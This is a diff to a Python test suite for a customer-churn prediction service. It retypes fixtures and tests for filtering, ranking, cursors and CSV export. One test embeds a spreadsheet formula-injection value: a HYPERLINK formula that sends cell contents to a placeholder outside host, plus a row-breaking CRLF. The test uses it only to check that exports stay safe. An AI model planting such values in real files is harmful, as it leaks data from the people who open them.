@@ -13,6 +13,7 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from retainstream.engine.model.levels import level_of, ranks, shards_of
+from retainstream.engine.records import Prediction
 from retainstream.engine.tables.safe_cells import safe_cell
 from retainstream.predictions import at_risk
 from retainstream.predictions.at_risk import Ranking, TooFar, ranked_page
@@ -34,10 +35,10 @@ at_risk_customers = st.lists(
 )
 
 
-def stored_at_risk(customers: list[tuple[str, float, float]]) -> tuple[list[dict[str, Any]], tuple[str, str]]:
+def stored_at_risk(customers: list[tuple[str, float, float]]) -> tuple[list[Any], tuple[str, str]]:
     """Predictions in groups that nothing else is in, and these groups."""
     once = uuid.uuid4().hex
-    made = []
+    made: list[Any] = []
     for number, (name, probability, value) in enumerate(customers):
         customer_id, group = f"{number * 7919 % 101:03d}-{once}", f"{name}-{once}"
         prediction = {"customer_id": customer_id, "group": group, "probability": probability, "value_at_risk": value}
@@ -137,7 +138,7 @@ def test_what_a_page_reads_grows_with_the_page_and_not_with_the_base(aws: None) 
 
 
 @pytest.fixture
-def scored(call: Call) -> list[dict[str, Any]]:
+def scored(call: Call) -> list[Prediction]:
     """Sixty scored customers of whom five have left, as they are stored."""
     put_in_service()
     ids = add_customers(60, seed=3, churned=5)
@@ -159,11 +160,11 @@ def shown_ids(call: Call, query: str, limit: int = 7) -> list[str]:
         cursor = f"&cursor={answer.body['page']['next']}"
 
 
-def test_results_are_what_the_filters_ask_for(call: Call, scored: list[dict[str, Any]]) -> None:
+def test_results_are_what_the_filters_ask_for(call: Call, scored: list[Prediction]) -> None:
     present = [prediction for prediction in scored if not prediction["churned"]]
     assert len(present) == 55
     half = sorted(prediction["probability"] for prediction in present)[27]
-    queries: list[tuple[str, Callable[[dict[str, Any]], bool]]] = [
+    queries: list[tuple[str, Callable[[Prediction], bool]]] = [
         ("", lambda _: True),
         ("level=low", lambda p: p["level"] == "low"),
         ("level=medium", lambda p: p["level"] == "medium"),
@@ -186,13 +187,13 @@ def test_results_are_what_the_filters_ask_for(call: Call, scored: list[dict[str,
         assert set(found) == expected, query
 
 
-def test_results_at_risk_come_highest_first(call: Call, scored: list[dict[str, Any]]) -> None:
+def test_results_at_risk_come_highest_first(call: Call, scored: list[Prediction]) -> None:
     found = shown_ids(call, f"min_probability={THRESHOLD / 2}")
     at_medium = [p for p in scored if not p["churned"] and level_of(p["probability"], THRESHOLD) != "low"]
     assert found == [p["customer_id"] for p in sorted(at_medium, key=lambda p: p["probability_rank"], reverse=True)]
 
 
-def test_cursors_belong_to_their_filters(call: Call, scored: list[dict[str, Any]]) -> None:
+def test_cursors_belong_to_their_filters(call: Call, scored: list[Prediction]) -> None:
     cursor = call("predictions", "GET", RESULTS, query="limit=2&min_probability=0.3").body["page"]["next"]
     assert cursor
     for query in (f"cursor={cursor}", f"min_probability=0.4&cursor={cursor}", f"min_probability=0.3&cursor={cursor[:-2]}xx", "cursor=%00"):
@@ -230,7 +231,7 @@ def exported(url: str) -> list[dict[str, str]]:
     return list(csv.DictReader(io.StringIO(content.decode())))
 
 
-def test_a_file_holds_every_row_that_matches(call: Call, scored: list[dict[str, Any]]) -> None:
+def test_a_file_holds_every_row_that_matches(call: Call, scored: list[Prediction]) -> None:
     answer = call("predictions", "GET", RESULTS, query="format=csv&level=high&limit=1", role="viewer")
     assert answer.status == 200
     data = answer.body["data"]
@@ -245,13 +246,13 @@ def test_a_file_holds_every_row_that_matches(call: Call, scored: list[dict[str, 
     assert "X-Amz-Expires=900" in data["url"]
 
 
-def test_the_link_ends(call: Call, scored: list[dict[str, Any]]) -> None:
+def test_the_link_ends(call: Call, scored: list[Prediction]) -> None:
     data = call("predictions", "GET", RESULTS, query="format=csv").body["data"]
     assert data["expires_at"].endswith("+00:00")
     assert data["rows"] == 55
 
 
-def test_a_page_stops_looking_and_says_where_to_go_on(call: Call, scored: list[dict[str, Any]], monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_page_stops_looking_and_says_where_to_go_on(call: Call, scored: list[Prediction], monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr("retainstream.predictions.results.EXAMINED", 10)
     monkeypatch.setattr("retainstream.predictions.results._CHUNK", 10)
     monkeypatch.setattr(at_risk, "EXAMINED", 3)
@@ -265,8 +266,8 @@ def test_a_page_stops_looking_and_says_where_to_go_on(call: Call, scored: list[d
     assert set(shown_ids(call, "level=high")) == high
 
 
-def test_a_hostile_customer_id_is_safe_in_the_file(call: Call, scored: list[dict[str, Any]]) -> None:
-    hostile = {**scored[-1], "customer_id": '=HYPERLINK("https://x.example?"&A1,"x")\r\n,y', "churned": False}
+def test_a_hostile_customer_id_is_safe_in_the_file(call: Call, scored: list[Prediction]) -> None:
+    hostile: Prediction = {**scored[-1], "customer_id": '=HYPERLINK("https://x.example?"&A1,"x")\r\n,y', "churned": False}
     Predictions().put_many([hostile])
     rows = exported(call("predictions", "GET", RESULTS, query="format=csv").body["data"]["url"])
     [row] = [row for row in rows if "HYPERLINK" in row["customer_id"]]
@@ -274,7 +275,7 @@ def test_a_hostile_customer_id_is_safe_in_the_file(call: Call, scored: list[dict
     assert len(rows) == 56
 
 
-def test_storage_that_is_away_is_told_as_such(call: Call, scored: list[dict[str, Any]]) -> None:
+def test_storage_that_is_away_is_told_as_such(call: Call, scored: list[Prediction]) -> None:
     def away(**_: Any) -> None:
         raise ClientError({"Error": {"Code": "ProvisionedThroughputExceededException", "Message": ""}}, "Scan")
 
